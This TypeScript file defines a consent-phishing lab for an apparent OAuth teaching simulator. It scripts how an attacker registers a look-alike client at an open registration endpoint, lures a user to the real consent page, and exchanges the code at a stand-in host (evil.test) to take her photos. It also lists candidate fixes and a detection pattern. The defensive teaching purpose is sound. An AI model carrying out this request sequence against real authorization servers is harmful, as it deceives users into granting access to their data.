import { herCall } from '../flows/mallory'
import { acmeId, adasBrowser, photoApi, photoprint } from '../flows/parties'
import { rfc } from '../words/specs'
import type { Lab } from './lab'
import type { Move } from './move'
import { adaGetsHerPhotos, adaPrints, adaReacts, malloryWho } from './moves'

/** A pair that everybody knows (RFC 7636, Appendix B). Mallory has nothing to hide from herself. */
const verifier = 'dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk'
const challenge = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM'

const inJson = { 'content-type': 'application/json' }

const application = (client_name: string) => ({
  client_name,
  redirect_uris: '["{elsewhere}/callback"]',
  token_endpoint_auth_method: 'none',
})

const registers = (name: string): Move => ({
  party: 'mallory',
  act: {
    kind: 'send',
    request: {
      method: 'POST',
      url: '{authorization-server}/reg',
      headers: Object.entries(inJson),
      form: application(name),
    },
  },
})

const link = `{authorization-server}/auth?response_type=code&client_id={client_id}&redirect_uri={elsewhere}/callback&scope=openid photos.read&code_challenge=${challenge}&code_challenge_method=S256`

const adaFollows: Move = { party: 'browser', act: { kind: 'open', address: link } }

const swap = {
  grant_type: 'authorization_code',
  code: '{code}',
  redirect_uri: '{elsewhere}/callback',
  client_id: '{client_id}',
  code_verifier: verifier,
}

const swaps: Move = {
  party: 'mallory',
  act: { kind: 'send', request: { method: 'POST', url: '{authorization-server}/token', form: swap } },
}

const fetches: Move = { party: 'mallory', act: { kind: 'send', request: herCall() } }

export const consentPhishing: Lab = {
  id: 'consent-phishing',
  breaks: 'person',
  name: 'consent phishing',
  title: 'An app with a good name',
  lead: 'Mallory registers an app that sounds like Photoprint. Acme ID asks Ada about it, on its own page, and Ada says yes.',
  parties: [adasBrowser, photoprint(), acmeId, photoApi, malloryWho()],
  world: { guard: 'asksForWhoeverRegistered', registration: 'open' },
  alsoOff: ['registration: open'],
  code: {
    file: 'lib/parties/authorization-server/guards/consent-phishing.ts',
    party: 'authorization-server',
    where: 'where it asks a person about a client',
  },
  reactions: adaReacts,
  before: [
    {
      ...adaPrints,
      tells: {
        says: 'Ada knows Photoprint',
        text: 'She has signed in with Acme ID, has pressed Allow, and has printed her photos. Nothing bad has come of it.',
      },
    },
  ],
  attack: [
    {
      ...registers('Photoprint Gold'),
      tells: {
        says: 'Mallory registers an app',
        text: 'Anybody may introduce a client to this Acme ID. The name is whatever she writes: “Photoprint Gold”. The answers go to her own site.',
      },
    },
    {
      ...adaFollows,
      tells: {
        says: 'Ada opens a link, and presses Allow',
        text: 'The link leads to the real Acme ID, and the padlock is there. The page says “Photoprint Gold asks to see your photos”. Ada knows Photoprint, and presses Allow.',
      },
    },
    {
      ...swaps,
      tells: {
        says: 'Mallory swaps the code',
        text: 'The code has come to her own site. State, PKCE, redirect_uri: she has kept every rule, for this is a client of hers.',
      },
    },
    {
      ...fetches,
      tells: {
        says: 'She fetches the photos',
        text: 'Her token is a good one, and Ada has said yes. Ada can change her password, and the app still gets in.',
      },
    },
  ],
  goal: { arrives: 'api-response', to: 'mallory', contains: 'First snow' },
  worked: 'Mallory has Ada’s photos. Every check was made, and the only thing that was false is a name.',
  stopped: {
    refusedBy: 'authorization-server',
    wire: 'access_denied',
    note: { code: 'interaction.error', contains: 'nobody has looked at "Photoprint Gold"' },
  },
  fixes: [
    {
      id: 'name-the-host',
      title: 'Show the host beside the name',
      with: { guard: 'namesTheHost' },
      right: false,
      told: 'The page now says evil.test, and Ada presses Allow all the same. Some people will see it, and that is worth something. It does not stop the attack.',
    },
    {
      id: 'refuse-names-in-use',
      title: 'Refuse names that another client has',
      with: { guard: 'refusesNamesInUse' },
      right: false,
      told: 'It stops “Photoprint”, and lets “Photoprint Gold” through. There are always more names that sound right.',
    },
    {
      id: 'ask-for-checked-clients',
      title: 'Ask people only about clients that were checked',
      with: { guard: 'asksForWhomItHasChecked' },
      right: true,
      told: 'Whoever registers may wait until a person has looked at them. Ada is not asked before that, and so she cannot be fooled. New and honest clients have to wait as well.',
    },
    {
      id: 'close-registration',
      title: 'Let only invited clients register',
      with: { registration: 'token' },
      right: true,
      stopped: {
        refusedBy: 'authorization-server',
        wire: 'invalid_token',
        note: { code: 'registration_create.error', contains: 'no access token provided' },
      },
      told: 'The registration endpoint wants an initial access token, which the operator hands out. Mallory gets no client_id, and all that follows needs one.',
    },
  ],
  variants: [
    {
      title: 'The same with the very name “Photoprint”',
      script: [registers('Photoprint'), adaFollows, swaps, fetches],
    },
  ],
  honest: [adaGetsHerPhotos],
  hints: [
    'Acme ID asks Ada about any client that is registered. Who may register one?',
    'Register a client whose answers come to evil.test, and send Ada to Acme ID with its client_id.',
    'Send the registration, let Ada open the prepared link, swap the code at /token, and call /photos.',
  ],
  tools: [
    {
      tool: 'send',
      method: 'POST',
      url: '{authorization-server}/reg',
      headers: inJson,
      form: application('Photoprint Gold'),
    },
    { tool: 'lure', party: 'browser', opens: link },
    { tool: 'send', method: 'POST', url: '{authorization-server}/token', form: swap },
    { tool: 'send', method: 'GET', url: '{resource-server}/photos', authorization: 'Bearer {access_token}' },
  ],
  rule: {
    text: 'What a client says of itself when it registers is its own word. The server has to do something about clients that borrow a name.',
    specs: [rfc(7591, '5')],
  },
  incident: {
    text: 'In May 2017 an app that called itself “Google Docs” asked people for their mail, on Google’s own consent page.',
    source: 'Auth0, 2017',
    at: 'https://auth0.com/blog/all-you-need-to-know-about-the-google-docs-phishing-attack/',
  },
  find: {
    text: 'Look at what your consent page shows of a client, and at who may write it.',
    pattern: 'client[_.]?[nN]ame',
    test: 'Register a client as a stranger and send a test user to it: nobody must be asked before the client was checked.',
  },
  stoppedBy: [],
}
